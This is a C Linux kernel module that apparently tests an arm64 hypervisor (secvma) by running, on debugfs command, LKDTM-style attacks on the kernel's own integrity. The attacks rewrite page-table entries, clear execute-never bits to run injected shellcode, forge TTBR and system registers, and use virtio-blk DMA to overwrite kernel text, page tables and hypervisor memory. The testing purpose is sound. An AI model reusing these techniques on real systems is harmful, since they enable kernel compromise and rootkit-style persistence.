// SPDX-License-Identifier: GPL-2.0
/*
 * secvma_lkdtm: a compromised kernel's attacks on its own integrity, LKDTM-style, for the
 * unmodified Debian arm64 6.1 kernel running under secvma's EL2.
 *
 * Unlike LKDTM, which checks that the *kernel* stops a stray access, every attack here first
 * defeats the kernel's own stage-1 protections the way an attacker with kernel privileges
 * would (rewrite a live PTE, map a new alias, write a system register): without a hypervisor
 * each one must succeed. Each records its effect in `result`, measured after the fact (bytes
 * read back through the original mapping, the value injected code returned, the register read
 * back). A blocked attempt oopses the writing task; `result` then still says "pending".
 *
 * Trigger: echo "NAME [hex-arg [hex-arg2]]" > /sys/kernel/debug/secvma_lkdtm/trigger
 * Result:  cat /sys/kernel/debug/secvma_lkdtm/result   ("<NAME> effect=<0|1> <detail>")
 */
#include <linux/module.h>
#include <linux/delay.h>
#include <linux/debugfs.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/uaccess.h>
#include <linux/string.h>
#include <linux/kernel.h>
#include <linux/etherdevice.h>
#include <linux/blkdev.h>
#include <linux/bio.h>
#include <linux/completion.h>
#include <linux/io.h>
#include <asm/sysreg.h>
#include <asm/memory.h>
#include <asm/pgtable.h>

#define MAGIC 42
/* mov x0, #42 ; ret */
#define SHELLCODE0 0xd2800540u
#define SHELLCODE1 0xd65f03c0u
#define AARCH64_NOP 0xd503201fu

#define D_VALID 1ULL
#define D_TABLE 2ULL
#define D_RDONLY (1ULL << 7)
#define D_PXN (1ULL << 53)
#define D_PXNTABLE (1ULL << 59)
#define D_OA 0x0000fffffffff000ULL

static struct dentry *dir;
static DEFINE_MUTEX(lock);
static char result[256] = "none";

static u32 data_code[16] __aligned(64) = { SHELLCODE0, SHELLCODE1 };
static const u32 rodata_code[16] __aligned(64) = { SHELLCODE0, SHELLCODE1 };

typedef long (*fn_t)(void);
typedef int (*patch_fn_t)(void *addr, u32 insn);

#define SET_RESULT(fmt, ...) snprintf(result, sizeof(result), fmt, ##__VA_ARGS__)

/* --- page-table walking through the linear map (4 KB granule, 4 levels, 48-bit VA) ------ */

/* The live leaf descriptor mapping `va` (kernel VAs through TTBR1, user VAs through TTBR0);
 * `tables` gets the table-descriptor slots on the way (levels 0..2), NULL entries for unused. */
static u64 *leaf_of(unsigned long va, int *level, u64 **tables)
{
	u64 ttbr = va >> 63 ? read_sysreg(ttbr1_el1) : read_sysreg(ttbr0_el1);
	u64 table = ttbr & 0x0000fffffffffffeULL;
	int lvl;

	for (lvl = 0; lvl < 4; lvl++) {
		unsigned int shift = 39 - 9 * lvl;
		u64 *slot = (u64 *)phys_to_virt(table & D_OA) + ((va >> shift) & 511);
		u64 d = READ_ONCE(*slot);

		if (tables)
			tables[lvl] = NULL;
		if (!(d & D_VALID))
			return NULL;
		if (lvl == 3 || !(d & D_TABLE)) {
			*level = lvl;
			return slot;
		}
		if (tables)
			tables[lvl] = slot;
		table = d;
	}
	return NULL;
}

static void tlbi_va(unsigned long va)
{
	dsb(ishst);
	asm volatile("tlbi vaale1is, %0" : : "r"((va >> 12) & ((1UL << 44) - 1)) : "memory");
	asm volatile("tlbi vmalle1is" : : : "memory");
	dsb(ish);
	isb();
}

static void sync_icache(unsigned long va, size_t n)
{
	unsigned long p;

	for (p = va & ~63UL; p < va + n; p += 64)
		asm volatile("dc cvau, %0" : : "r"(p) : "memory");
	dsb(ish);
	for (p = va & ~63UL; p < va + n; p += 64)
		asm volatile("ic ivau, %0" : : "r"(p) : "memory");
	dsb(ish);
	isb();
}

/* Rewrite the live leaf of `va`: clear `clear`, set `set`. Returns the old value (0: no leaf). */
static u64 edit_leaf(unsigned long va, u64 clear, u64 set)
{
	int level;
	u64 *slot = leaf_of(va, &level, NULL);
	u64 old;

	if (!slot)
		return 0;
	old = READ_ONCE(*slot);
	WRITE_ONCE(*slot, (old & ~clear) | set);
	tlbi_va(va);
	return old;
}

static void restore_leaf(unsigned long va, u64 old)
{
	int level;
	u64 *slot = leaf_of(va, &level, NULL);

	if (slot && old) {
		WRITE_ONCE(*slot, old);
		tlbi_va(va);
	}
}

/* Store into a page-table page through a fresh writable alias: the linear alias of some
 * table pages (swapper_pg_dir's, in the kernel image) is read-only at stage 1. */
static int poke_table(u64 *slot, u64 val)
{
	struct page *pg = virt_to_page(slot);
	u8 *alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(u64 *)(alias + ((unsigned long)slot & ~PAGE_MASK)), val);
	vunmap(alias);
	return 0;
}

/* Clear PXN on the leaf of `va` (and PXNTable on the way), then call it. */
static long exec_at(unsigned long va, const char *what)
{
	u64 *tables[4];
	int level, i;
	u64 *slot = leaf_of(va, &level, tables);
	long ret;

	if (!slot) {
		SET_RESULT("effect=0 no mapping for %s", what);
		return -EFAULT;
	}
	for (i = 0; i < level; i++)
		if (tables[i] && (READ_ONCE(*tables[i]) & D_PXNTABLE) &&
		    poke_table(tables[i], READ_ONCE(*tables[i]) & ~D_PXNTABLE)) {
			SET_RESULT("effect=0 vmap failed");
			return -ENOMEM;
		}
	WRITE_ONCE(*slot, READ_ONCE(*slot) & ~D_PXN);
	tlbi_va(va);
	sync_icache(va, 8);
	SET_RESULT("effect=0 PXN cleared on %s, calling it", what);
	ret = ((fn_t)va)();
	SET_RESULT("effect=%d injected code in %s returned %ld", ret == MAGIC, what, ret);
	return 0;
}

/* --- the attacks --------------------------------------------------------------------------- */

static int a_write_ro(unsigned long arg)
{
	unsigned long va = (unsigned long)&hex_asc_upper[15];
	char before = READ_ONCE(*(volatile const char *)va), after;
	u64 old = edit_leaf(va, D_RDONLY, 0);

	SET_RESULT("effect=0 made the rodata leaf writable, writing");
	WRITE_ONCE(*(volatile char *)va, 'Z');
	after = READ_ONCE(*(volatile const char *)va);
	SET_RESULT("effect=%d hex_asc_upper[15] %#x -> %#x", after == 'Z' && before != 'Z', before, after);
	WRITE_ONCE(*(volatile char *)va, before);
	restore_leaf(va, old);
	return 0;
}

/* The text target: an exported kernel function nothing calls while the attack runs. */
static unsigned long text_target(void)
{
	return (unsigned long)mac_pton;
}

static int a_write_kern(unsigned long arg)
{
	unsigned long va = text_target() + 8;
	u32 before = READ_ONCE(*(volatile u32 *)va), want = before ^ 0x1f, after;
	u64 old = edit_leaf(va, D_RDONLY, 0);

	SET_RESULT("effect=0 made the text leaf writable, writing");
	WRITE_ONCE(*(volatile u32 *)va, want);
	after = READ_ONCE(*(volatile u32 *)va);
	SET_RESULT("effect=%d text at mac_pton+8 %#x -> %#x", after == want, before, after);
	WRITE_ONCE(*(volatile u32 *)va, before);
	sync_icache(va, 4);
	restore_leaf(va, old);
	return 0;
}

static int a_exec_data(unsigned long arg)
{
	return exec_at((unsigned long)data_code, "module .data");
}

static noinline int a_exec_stack(unsigned long arg)
{
	u32 code[32] __aligned(64);
	unsigned long va = ((unsigned long)code + 63) & ~63UL;

	memset(code, 0, sizeof(code));
	((u32 *)va)[0] = SHELLCODE0;
	((u32 *)va)[1] = SHELLCODE1;
	return exec_at(va, "the kernel stack");
}

static int a_exec_kmalloc(unsigned long arg)
{
	u32 *buf = kmalloc(64, GFP_KERNEL);
	int r;

	if (!buf)
		return -ENOMEM;
	buf[0] = SHELLCODE0;
	buf[1] = SHELLCODE1;
	r = exec_at((unsigned long)buf, "a kmalloc buffer");
	kfree(buf);
	return r;
}

static int a_exec_vmalloc(unsigned long arg)
{
	u32 *buf = vmalloc(PAGE_SIZE);
	int r;

	if (!buf)
		return -ENOMEM;
	buf[0] = SHELLCODE0;
	buf[1] = SHELLCODE1;
	r = exec_at((unsigned long)buf, "a vmalloc buffer");
	vfree(buf);
	return r;
}

static int a_exec_rodata(unsigned long arg)
{
	return exec_at((unsigned long)rodata_code, "module .rodata");
}

static int a_exec_userspace(unsigned long arg)
{
	u32 first;

	if (!arg || arg >> 63)
		return -EINVAL;
	if (get_user(first, (u32 __user *)arg) || first != SHELLCODE0) {
		SET_RESULT("effect=0 user page at %#lx does not hold the shellcode", arg);
		return -EFAULT;
	}
	return exec_at(arg, "a user page");
}

static int a_pxn_clear(unsigned long arg)
{
	unsigned long va = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	int level;
	u64 *slot, before, after;

	if (!va)
		return -ENOMEM;
	slot = leaf_of(va, &level, NULL);
	if (!slot) {
		free_page(va);
		return -EFAULT;
	}
	before = READ_ONCE(*slot);
	SET_RESULT("effect=0 clearing PXN in the linear-map leaf %#llx", before);
	WRITE_ONCE(*slot, before & ~D_PXN);
	tlbi_va(va);
	after = READ_ONCE(*slot);
	SET_RESULT("effect=%d linear-map leaf (level %d) %#llx -> %#llx", (before & D_PXN) && !(after & D_PXN),
		   level, before, after);
	WRITE_ONCE(*slot, before);
	tlbi_va(va);
	free_page(va);
	return 0;
}

static int a_text_alias(unsigned long arg)
{
	unsigned long va = text_target() + 12;
	struct page *pg = virt_to_page(lm_alias((void *)va));
	u32 before = READ_ONCE(*(volatile u32 *)va), want = before ^ 0x1f, after;
	u8 *alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	u32 *w;

	if (!alias) {
		SET_RESULT("effect=0 vmap failed");
		return -ENOMEM;
	}
	w = (u32 *)(alias + (va & ~PAGE_MASK));
	SET_RESULT("effect=0 writable alias of text at %px, writing", alias);
	WRITE_ONCE(*w, want);
	after = READ_ONCE(*(volatile u32 *)va);
	SET_RESULT("effect=%d text at mac_pton+12 through a writable alias %#x -> %#x", after == want,
		   before, after);
	WRITE_ONCE(*w, before);
	sync_icache(va, 4);
	vunmap(alias);
	return 0;
}

static int a_ttbr1_forge(unsigned long arg)
{
	u64 old = read_sysreg(ttbr1_el1), forged, back;
	unsigned long copy = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	unsigned long flags;

	if (!copy)
		return -ENOMEM;
	memcpy((void *)copy, phys_to_virt(old & 0x0000fffffffffffeULL), PAGE_SIZE);
	forged = (old & ~0x0000fffffffffffeULL) | virt_to_phys((void *)copy);
	SET_RESULT("effect=0 loading a forged TTBR1 %#llx", forged);
	local_irq_save(flags);
	write_sysreg(forged, ttbr1_el1);
	isb();
	back = read_sysreg(ttbr1_el1);
	write_sysreg(old, ttbr1_el1);
	isb();
	local_irq_restore(flags);
	SET_RESULT("effect=%d TTBR1_EL1 held %#llx (forged %#llx, real %#llx)", back == forged, back,
		   forged, old);
	free_page(copy);
	return 0;
}

static int a_ttbr0_craft(unsigned long arg)
{
	u64 old = read_sysreg(ttbr0_el1), crafted, back;
	unsigned long l0 = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	unsigned long l1 = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	unsigned long flags;

	if (!l0 || !l1) {
		free_page(l0);
		free_page(l1);
		return -ENOMEM;
	}
	/* one table entry without PXNTable, and a 1 GiB EL0-RW, EL1-executable block of RAM */
	((u64 *)l0)[0] = virt_to_phys((void *)l1) | D_TABLE | D_VALID;
	((u64 *)l1)[1] = 0x40000000ULL | (1 << 10) | (3 << 8) | (1 << 6) | (0 << 2) | D_VALID;
	crafted = (old & ~0x0000fffffffffffeULL) | virt_to_phys((void *)l0);
	SET_RESULT("effect=0 loading a crafted TTBR0 %#llx", crafted);
	local_irq_save(flags);
	write_sysreg(crafted, ttbr0_el1);
	isb();
	back = read_sysreg(ttbr0_el1);
	write_sysreg(old, ttbr0_el1);
	isb();
	local_irq_restore(flags);
	SET_RESULT("effect=%d TTBR0_EL1 held %#llx (crafted %#llx, real %#llx)", back == crafted, back,
		   crafted, old);
	free_page(l0);
	free_page(l1);
	return 0;
}

static int a_sctlr_write(unsigned long arg)
{
	u64 old = read_sysreg(sctlr_el1), forged = old ^ (1ULL << 9), back; /* UMA */
	unsigned long flags;

	SET_RESULT("effect=0 writing SCTLR_EL1 %#llx", forged);
	local_irq_save(flags);
	write_sysreg(forged, sctlr_el1);
	isb();
	back = read_sysreg(sctlr_el1);
	write_sysreg(old, sctlr_el1);
	isb();
	local_irq_restore(flags);
	SET_RESULT("effect=%d SCTLR_EL1 held %#llx (forged %#llx, real %#llx)", back == forged, back,
		   forged, old);
	return 0;
}

static int a_vbar_write(unsigned long arg)
{
	u64 old = read_sysreg(vbar_el1), forged = old + 0x800, back;
	unsigned long flags;

	SET_RESULT("effect=0 writing VBAR_EL1 %#llx", forged);
	local_irq_save(flags);
	write_sysreg(forged, vbar_el1);
	isb();
	/*
	 * No trap guards VBAR_EL1 (no FEAT_FGT): what counts is whether the forged value survives.
	 * Wait five 10 ms guard intervals with EL1's interrupts masked (so no exception uses the
	 * forged vectors and the kernel survives either way); interrupts routed to EL2 still come.
	 */
	mdelay(50);
	back = read_sysreg(vbar_el1);
	write_sysreg(old, vbar_el1);
	isb();
	local_irq_restore(flags);
	SET_RESULT("effect=%d VBAR_EL1 held %#llx (forged %#llx, real %#llx)", back == forged, back,
		   forged, old);
	return 0;
}

#define MDSCR_KDE (1UL << 13)

static int a_mdscr_kde(unsigned long arg)
{
	u64 old = read_sysreg(mdscr_el1), forged = old | MDSCR_KDE, back;
	unsigned long flags;

	SET_RESULT("effect=0 writing MDSCR_EL1 %#llx", forged);
	local_irq_save(flags);
	/*
	 * KDE enables breakpoint, watchpoint and step exceptions at EL1 (the first step of a
	 * kernel debugger an attacker would use to hijack control flow). No trap guards
	 * MDSCR_EL1 here: judged, like VBAR_WRITE, by whether the bit survives five guard
	 * intervals. No breakpoint is armed and PSTATE.D is set, so it is harmless either way.
	 */
	write_sysreg(forged, mdscr_el1);
	isb();
	mdelay(50);
	back = read_sysreg(mdscr_el1);
	write_sysreg(old, mdscr_el1);
	isb();
	local_irq_restore(flags);
	SET_RESULT("effect=%d MDSCR_EL1 held %#llx (forged %#llx, real %#llx)",
		   (back & MDSCR_KDE) != 0, back, forged, old);
	return 0;
}

/* `arg`: the address of aarch64_insn_patch_text_nosync (from /proc/kallsyms). */
static int a_text_poke(unsigned long arg)
{
	patch_fn_t patch = (patch_fn_t)arg;
	unsigned long va = text_target() + 16;
	u32 before = READ_ONCE(*(volatile u32 *)va), want, after;
	int r;

	if (!(arg >> 63) || arg % 4) {
		SET_RESULT("effect=0 %#lx is not a kernel function address", arg);
		return -EINVAL;
	}
	want = before == AARCH64_NOP ? SHELLCODE1 : AARCH64_NOP;
	SET_RESULT("effect=0 patching mac_pton+16 (no patch site) through the text-poke alias");
	r = patch((void *)va, want);
	after = READ_ONCE(*(volatile u32 *)va);
	SET_RESULT("effect=%d aarch64_insn_patch_text_nosync -> %d; mac_pton+16 %#x -> %#x",
		   r == 0 && after == want, r, before, after);
	if (after != before)
		patch((void *)va, before);
	return 0;
}


/* --- DMA: a real virtio-blk request whose data buffer is the target --------------------------
 *
 * The kernel's own block layer and virtio-blk driver (no IOMMU in the kernel's DTB: dma-direct,
 * the device gets the physical address). Sector 0 of the disk holds the 512 bytes around the
 * target with a 16-byte marker at the target, sector 1 the original bytes; a READ of sector 0
 * into the target's 512-byte window makes the *device* write the marker there. Effect: the
 * marker read back through the kernel's own mapping (hypervisor memory: the host reads it).
 * Under `none` a second READ (sector 1) puts the original bytes back. A blocked DMA leaves the
 * device waiting for a reset (QEMU marks it broken): the request is abandoned after 5 s.
 * Arguments: arg = dev_t of the disk (MKDEV layout), arg2 = physical address (DMA_HYP).
 */

/* each 8-byte word starts with a zero byte: as a table entry it is invalid */
static const u8 dma_marker[16] = "\0secvma\0dma!atk";

struct dma_wait {
	struct completion done;
	blk_status_t status;
};

static void dma_end_io(struct bio *bio)
{
	struct dma_wait *w = bio->bi_private;

	w->status = bio->bi_status;
	complete(&w->done);
	bio_put(bio);
}

/* One request of `len` bytes at `sector`, data buffer `pg` + `off`. -ETIMEDOUT: no answer. */
static int blk_io(struct block_device *bdev, enum req_op op, sector_t sector, struct page *pg,
		  unsigned int off, unsigned int len)
{
	struct dma_wait *w = kzalloc(sizeof(*w), GFP_KERNEL);
	struct bio *bio;
	int r;

	if (!w)
		return -ENOMEM;
	init_completion(&w->done);
	bio = bio_alloc(bdev, 1, op | REQ_SYNC, GFP_KERNEL);
	bio->bi_iter.bi_sector = sector;
	if (bio_add_page(bio, pg, len, off) != len) {
		bio_put(bio);
		kfree(w);
		return -EINVAL;
	}
	bio->bi_private = w;
	bio->bi_end_io = dma_end_io;
	submit_bio(bio);
	if (!wait_for_completion_timeout(&w->done, msecs_to_jiffies(5000)))
		return -ETIMEDOUT; /* `w` stays allocated: the device may still answer */
	r = blk_status_to_errno(w->status);
	kfree(w);
	return r;
}

/* `pa`: the target; `readback`: the kernel's mapping of it (NULL: the host judges). */
static int dma_attack(const char *what, unsigned long devt, phys_addr_t pa, const u8 *readback)
{
	unsigned int pos = pa & 511;
	phys_addr_t win = pa - pos;
	struct block_device *bdev;
	struct page *pg;
	u8 *buf, now[16];
	int r, effect = 0;

	if (!devt || !pfn_valid(PHYS_PFN(win))) {
		SET_RESULT("effect=0 setup: no disk (dev %#lx) or no struct page for %pa", devt, &win);
		return -EINVAL;
	}
	pg = pfn_to_page(PHYS_PFN(win));
	buf = kmalloc(1024, GFP_KERNEL);
	if (!buf)
		return -ENOMEM;
	if (readback)
		memcpy(buf + 512, readback - pos, 512);
	else
		memset(buf + 512, 0, 512);
	memcpy(buf, buf + 512, 512);
	memcpy(buf + pos, dma_marker, sizeof(dma_marker));
	bdev = blkdev_get_by_dev(MKDEV(devt >> 20, devt & 0xfffff), FMODE_READ | FMODE_WRITE, NULL);
	if (IS_ERR(bdev)) {
		SET_RESULT("effect=0 setup: blkdev_get_by_dev(%#lx) -> %ld", devt, PTR_ERR(bdev));
		kfree(buf);
		return PTR_ERR(bdev);
	}
	r = blk_io(bdev, REQ_OP_WRITE, 0, virt_to_page(buf), offset_in_page(buf), 1024);
	if (r) {
		SET_RESULT("effect=0 setup: writing the marker sectors -> %d", r);
		goto out;
	}
	SET_RESULT("effect=0 started: virtio-blk READ into %s at %pa", what, &pa);
	r = blk_io(bdev, REQ_OP_READ, 0, pg, offset_in_page(win), 512);
	if (readback) {
		memcpy(now, readback, sizeof(now));
		effect = !memcmp(now, dma_marker, sizeof(dma_marker));
		if (effect)
			blk_io(bdev, REQ_OP_READ, 1, pg, offset_in_page(win), 512); /* restore */
		SET_RESULT("effect=%d virtio-blk READ into %s at %pa -> %d; bytes there %16phN", effect,
			   what, &pa, r, now);
	} else {
		SET_RESULT("effect=0 host-judged virtio-blk READ into %s at %pa -> %d", what, &pa, r);
	}
	r = 0;
out:
	blkdev_put(bdev, FMODE_READ | FMODE_WRITE);
	kfree(buf);
	return r;
}

static unsigned long dma_arg2;

static int a_dma_text(unsigned long arg)
{
	return dma_attack("kernel text (mac_pton)", arg, __pa_symbol(mac_pton), (const u8 *)mac_pton);
}

static int a_dma_rodata(unsigned long arg)
{
	return dma_attack("kernel rodata (hex_asc_upper)", arg, __pa_symbol(hex_asc_upper),
			  (const u8 *)hex_asc_upper);
}

/* two unused (zero) entries of the live kernel root table (swapper_pg_dir) */
static int a_dma_pgtable(unsigned long arg)
{
	phys_addr_t root = read_sysreg(ttbr1_el1) & 0x0000fffffffff000ULL;
	const u64 *t = phys_to_virt(root);
	int i;

	for (i = 0; i < 511; i += 2)
		if (!READ_ONCE(t[i]) && !READ_ONCE(t[i + 1]))
			return dma_attack("the kernel root table (swapper_pg_dir)", arg,
					  root + 8 * i, (const u8 *)(t + i));
	SET_RESULT("effect=0 setup: no two free entries in the root table");
	return -EINVAL;
}

/* module text: a function of this module nothing calls */
static noinline int dma_victim(int x)
{
	return x * 3 + 1;
}

static int a_dma_modtext(unsigned long arg)
{
	unsigned long va = (unsigned long)dma_victim;
	struct page *pg = vmalloc_to_page((void *)va);

	if (!pg) {
		SET_RESULT("effect=0 setup: module text %px not vmalloc'd", (void *)va);
		return -EINVAL;
	}
	return dma_attack("module text (dma_victim)", arg, page_to_phys(pg) + offset_in_page(va),
			  (const u8 *)va);
}

static int a_dma_hyp(unsigned long arg)
{
	if (!dma_arg2) {
		SET_RESULT("effect=0 setup: no hypervisor address given");
		return -EINVAL;
	}
	return dma_attack("hypervisor memory", arg, dma_arg2, NULL);
}

struct attack {
	const char *name;
	int (*fn)(unsigned long arg);
};

static const struct attack attacks[] = {
	{ "WRITE_RO", a_write_ro },
	{ "WRITE_KERN", a_write_kern },
	{ "EXEC_DATA", a_exec_data },
	{ "EXEC_STACK", a_exec_stack },
	{ "EXEC_KMALLOC", a_exec_kmalloc },
	{ "EXEC_VMALLOC", a_exec_vmalloc },
	{ "EXEC_RODATA", a_exec_rodata },
	{ "EXEC_USERSPACE", a_exec_userspace },
	{ "PXN_CLEAR", a_pxn_clear },
	{ "TEXT_ALIAS", a_text_alias },
	{ "TTBR1_FORGE", a_ttbr1_forge },
	{ "TTBR0_CRAFT", a_ttbr0_craft },
	{ "SCTLR_WRITE", a_sctlr_write },
	{ "VBAR_WRITE", a_vbar_write },
	{ "MDSCR_KDE", a_mdscr_kde },
	{ "TEXT_POKE", a_text_poke },
	{ "DMA_TEXT", a_dma_text },
	{ "DMA_RODATA", a_dma_rodata },
	{ "DMA_PGTABLE", a_dma_pgtable },
	{ "DMA_MODTEXT", a_dma_modtext },
	{ "DMA_HYP", a_dma_hyp },
};

static ssize_t trigger_write(struct file *f, const char __user *ubuf, size_t n, loff_t *off)
{
	char buf[96], *sp;
	unsigned long arg = 0, arg2 = 0;
	size_t i;
	int r = -EINVAL;

	if (n == 0 || n >= sizeof(buf))
		return -EINVAL;
	if (copy_from_user(buf, ubuf, n))
		return -EFAULT;
	buf[n] = 0;
	strim(buf);
	sp = strchr(buf, ' ');
	if (sp) {
		char *sp2;

		*sp++ = 0;
		sp = skip_spaces(sp);
		sp2 = strchr(sp, ' ');
		if (sp2) {
			*sp2++ = 0;
			if (kstrtoul(skip_spaces(sp2), 16, &arg2))
				return -EINVAL;
		}
		if (kstrtoul(sp, 16, &arg))
			return -EINVAL;
	}
	mutex_lock(&lock);
	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
		if (strcmp(buf, attacks[i].name))
			continue;
		SET_RESULT("effect=0 started");
		dma_arg2 = arg2;
		pr_info("secvma_lkdtm: %s\n", attacks[i].name);
		r = attacks[i].fn(arg);
		pr_info("secvma_lkdtm: %s -> %d: %s\n", attacks[i].name, r, result);
		break;
	}
	mutex_unlock(&lock);
	return r < 0 ? r : n;
}

static ssize_t result_read(struct file *f, char __user *ubuf, size_t n, loff_t *off)
{
	return simple_read_from_buffer(ubuf, n, off, result, strlen(result));
}

static const struct file_operations trigger_fops = {
	.owner = THIS_MODULE,
	.write = trigger_write,
};

static const struct file_operations result_fops = {
	.owner = THIS_MODULE,
	.read = result_read,
};

static int __init secvma_lkdtm_init(void)
{
	dir = debugfs_create_dir("secvma_lkdtm", NULL);
	debugfs_create_file("trigger", 0200, dir, NULL, &trigger_fops);
	debugfs_create_file("result", 0400, dir, NULL, &result_fops);
	pr_info("secvma_lkdtm: ready, %zu attacks\n", ARRAY_SIZE(attacks));
	return 0;
}

static void __exit secvma_lkdtm_exit(void)
{
	debugfs_remove(dir);
}

module_init(secvma_lkdtm_init);
module_exit(secvma_lkdtm_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("secvma: attacks of a compromised kernel, judged by their effect");
